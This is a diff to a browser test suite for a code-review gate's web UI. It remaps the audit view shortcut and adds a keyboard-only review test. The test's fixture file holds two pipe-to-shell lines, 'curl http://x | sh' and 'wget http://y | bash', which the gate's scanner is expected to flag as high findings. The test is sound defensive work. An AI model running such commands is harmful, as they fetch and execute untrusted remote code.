@@ -650,7 +650,7 @@ test('side-by-side', async (p) => {
 const auditRows = (p) => p.page.locator('#audit-rows tr').evaluateAll((rs) => rs.map((r) =>
 	({ id: Number(r.dataset.id), actor: r.cells[2].textContent, action: r.cells[3].textContent, sub: r.cells[4].textContent })));
 
-// The audit view: an auditor sees the submit and approve events of a
+// The audit view (key t): an auditor sees the submit and approve events of a
 // submission made here (its filter), filters by action (asked of the gate),
 // pages with after, and reads the latest checkpoint's size; a reviewer is
 // shown the gate's 403 message instead.
@@ -662,9 +662,9 @@ test('audit-view', async (p) => {
 		{ headers: { Authorization: `Bearer ${gate.admin}` } })).text()).split('\n')[1];
 	const before = await cpSize();
 	await signIn(p, fx.aud);
-	await p.page.keyboard.press('a');
+	await p.page.keyboard.press('t');
 	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
-	assert(new URL(p.page.url()).hash === '#/audit', `a went to ${p.page.url()}`);
+	assert(new URL(p.page.url()).hash === '#/audit', `t went to ${p.page.url()}`);
 	// The checkpoint, as the gate serves it.
 	await p.page.waitForSelector('#cp-size');
 	const size = await text(p, '#cp-size');
@@ -722,4 +722,61 @@ test('audit-view', async (p) => {
 	} finally {
 		await q.ctx.close();
 	}
+});
+
+// A whole review with the keys only: sign in (typed, Enter), j/k to the
+// submission, Enter, n/p through its findings, s and back, c to the
+// comment, Escape, a, Escape withdrawing the confirmation, a again, Enter
+// on the focused confirmation; the approval with its comment recorded. No
+// mouse event is sent.
+test('keyboard-review', async (p) => {
+	const s = await submit(fx.agent, 'curl http://x | sh\necho ok\nwget http://y | bash\n', 'kind=file&name=keys.sh');
+	assert(s.worst === 'high' && s.findings.length === 2, `keys.sh: ${s.worst}, ${s.findings.length} findings`);
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.waitForFunction(() => document.activeElement?.id === 'token');
+	await p.page.keyboard.type(fx.rev2);
+	await p.page.keyboard.press('Enter');
+	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`);
+	const key = (k) => p.page.keyboard.press(k);
+	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
+	await key('j');
+	await key('k');
+	for (let i = 0; i < ids.indexOf(String(s.id)); i++)
+		await key('j');
+	assert(await sel() === String(s.id), `selected ${await sel()}, not ${s.id}`);
+	await key('Enter');
+	await p.page.waitForSelector('#view:not([hidden]) .content .line.hit');
+	const target = () => p.page.locator('.line.target .ln').innerText();
+	await key('n');
+	assert(await target() === '1', 'n: not the first finding');
+	await key('n');
+	assert(await target() === '3', 'n: not the second finding');
+	await key('p');
+	assert(await target() === '1', 'p: not back to the first');
+	await key('s'); // no patch: nothing happens
+	assert(await p.page.locator('.split').count() === 0, 's split a file that is no patch');
+	await key('c');
+	assert(await p.page.evaluate(() => document.activeElement.id) === 'comment', 'c did not focus the comment');
+	await p.page.keyboard.type('read both, fine (a test)');
+	await key('Escape');
+	assert(await p.page.evaluate(() => document.activeElement.id) !== 'comment', 'Escape did not leave the comment');
+	assert(!p.page.url().endsWith('#/'), 'Escape in the comment left the view');
+	await key('a');
+	assert(await p.page.locator('#confirm').isVisible(), 'no confirmation for a high finding');
+	assert(await p.page.evaluate(() => document.activeElement.id) === 'confirm', 'the confirmation is not focused');
+	await key('Escape');
+	assert(await p.page.locator('#confirm').isHidden(), 'Escape did not withdraw the confirmation');
+	assert(p.page.url().endsWith(`#/s/${s.id}`), 'Escape left the view instead');
+	decidedNothing(p);
+	await key('a');
+	await key('Enter');
+	await p.page.waitForFunction(() => /approvals 1 of 2/.test(document.querySelector('.decision')?.textContent || ''));
+	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
+	const ap = ev.events.filter((e) => e.action === 'approve');
+	assert(ap.length === 1 && ap[0].actor === 'rev-2', `approvals: ${JSON.stringify(ap)}`);
+	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
+	assert(JSON.stringify(d).includes('read both, fine (a test)'), 'the comment was not recorded');
+	await key('u');
+	await p.page.waitForSelector('#queue:not([hidden])');
 });
